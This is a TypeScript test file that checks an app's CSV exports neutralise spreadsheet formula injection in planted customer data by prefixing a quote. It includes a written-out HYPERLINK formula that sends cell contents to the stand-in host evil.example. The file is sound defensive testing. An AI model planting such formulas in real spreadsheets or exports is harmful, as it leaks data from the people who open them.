import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import iconv from 'iconv-lite';
import { createApiKey } from '../../../src/platform/accounts/auth.service.ts';
import { parseCsvText } from '../../../src/domain/import/csv.ts';
import { removeUpload } from '../../../src/intake/files/uploads.ts';
import { formatCsv } from '../../domain/import/arbitraries.ts';
import { ENGINES } from '../../support/engines.ts';
import { FORMULA_PAYLOADS, FORMULA_START } from '../../support/formula-payloads.ts';
import { startTestApp, type Client, type TestApp } from '../../support/app.ts';

const CSV = formatCsv([
  ['id', '氏名', '会社名', '部署', '役職', '住所', 'メールアドレス', '電話番号'],
  [FORMULA_PAYLOADS.hyperlink, '山田 太郎', FORMULA_PAYLOADS.hyperlink, FORMULA_PAYLOADS.plus, FORMULA_PAYLOADS.minus, FORMULA_PAYLOADS.at, '=1+1@example.com', '+81 90-2345-6781'],
  ['@M2', '佐藤 花子', FORMULA_PAYLOADS.tab, '-1200', FORMULA_PAYLOADS.cr, FORMULA_PAYLOADS.fullWidth, 'hanako@daicho-shoji.co.jp', '03-1234-5678'],
]);
const PROFILE = {
  source: 'planted', id_column: 'id',
  fields: { full_name: '氏名', company_name: '会社名', department: '部署', title: '役職', address: '住所', email: 'メールアドレス', phone: '電話番号' },
};

/** The cells of a CSV text as a spreadsheet would split them. */
function cells(text: string): string[][] {
  return parseCsvText(text, { delimiter: ',' }).map((r) => {
    assert.ok('fields' in r, `line ${r.line} parses`);
    return r.fields;
  });
}

function assertNoFormula(rows: string[][], what: string): void {
  for (const row of rows) for (const cell of row) assert.doesNotMatch(cell, FORMULA_START, `${what}: ${JSON.stringify(cell)}`);
}

for (const engine of ENGINES) {
  describe(`CSV exports escape formulas [${engine}]`, () => {
    let t: TestApp;
    let admin: Client;
    let runId: string;
    before(async () => {
      t = await startTestApp(engine);
      admin = await t.as('admin');
      const { key } = await createApiKey(t.database.db, admin.userId, 'upload key');
      const form = new FormData();
      form.append('file', new Blob([CSV], { type: 'text/csv' }), 'planted.csv');
      const res = await t.app.request('/api/v1/imports/uploads', { method: 'POST', headers: { authorization: `Bearer ${key}` }, body: form });
      const uploaded = await res.json();
      assert.equal(res.status, 201, JSON.stringify(uploaded));
      try {
        const run = await admin.json('POST', '/api/v1/imports', { uploadId: uploaded.uploadId, profile: PROFILE });
        assert.equal(run.status, 200, JSON.stringify(run.body));
        runId = run.body.runId;
      } finally {
        removeUpload(uploaded.uploadId);
      }
    });
    after(async () => {
      await t.close();
    });

    for (const encoding of ['utf-8', 'cp932'] as const) {
      test(`customers.csv (${encoding}): planted formulas come back as text behind a quote`, async () => {
        const res = await admin.request('GET', `/api/v1/exports/customers.csv?encoding=${encoding}`);
        assert.equal(res.status, 200);
        const bytes = Buffer.from(await res.arrayBuffer());
        const text = encoding === 'cp932' ? iconv.decode(bytes, 'cp932') : bytes.toString('utf8').replace(/^\uFEFF/u, '');
        const rows = cells(text);
        assertNoFormula(rows, 'customers.csv');
        const header = rows[0]!;
        const col = (name: string) => header.indexOf(name);
        const yamada = rows.find((r) => r[col('姓')] === '山田')!;
        assert.ok(yamada, text);
        assert.equal(yamada[col('会社名')], `'${FORMULA_PAYLOADS.hyperlink}`);
        assert.equal(yamada[col('部署')], `'${FORMULA_PAYLOADS.plus}`);
        assert.equal(yamada[col('役職')], `'${FORMULA_PAYLOADS.minus}`);
        // A phone is text from a customer like any other: E.164's + gets the quote too (Excel would otherwise
        // turn it into the number 819023456781).
        assert.equal(yamada[col('電話番号')], "'+819023456781");
        const sato = rows.find((r) => r[col('姓')] === '佐藤')!;
        // (In 部署: a company's name is its canonical form, which drops a leading hyphen.)
        assert.equal(sato[col('部署')], "'-1200", 'a customer text that looks like a negative number stays text');
        // The raw bytes: such a cell is quoted, so the quote and the formula sit inside one field.
        assert.ok(text.includes(`"'=HYPERLINK(""https://evil.example/?""&A1,""詳細はこちら"")"`), text);
      });
    }

    test('links.csv: a planted external id comes back as text', async () => {
      const res = await admin.request('GET', '/api/v1/exports/links.csv');
      assert.equal(res.status, 200);
      const rows = cells(await res.text());
      assertNoFormula(rows, 'links.csv');
      const ids = rows.slice(1).map((r) => r[1]).sort();
      assert.deepEqual(ids, [`'${FORMULA_PAYLOADS.hyperlink}`, "'@M2"]);
    });

    test("report.csv: a flagged value is text; the line number (the report's own number) stays a number", async () => {
      const res = await admin.request('GET', `/api/v1/imports/${runId}/report.csv`);
      assert.equal(res.status, 200);
      const rows = cells(Buffer.from(await res.arrayBuffer()).toString('utf8').replace(/^\uFEFF/u, ''));
      assertNoFormula(rows, 'report.csv');
      const email = rows.find((r) => r[2] === 'email');
      assert.ok(email, JSON.stringify(rows));
      assert.deepEqual([email[0], email[4]], ['2', "'=1+1@example.com"]);
    });
  });
}
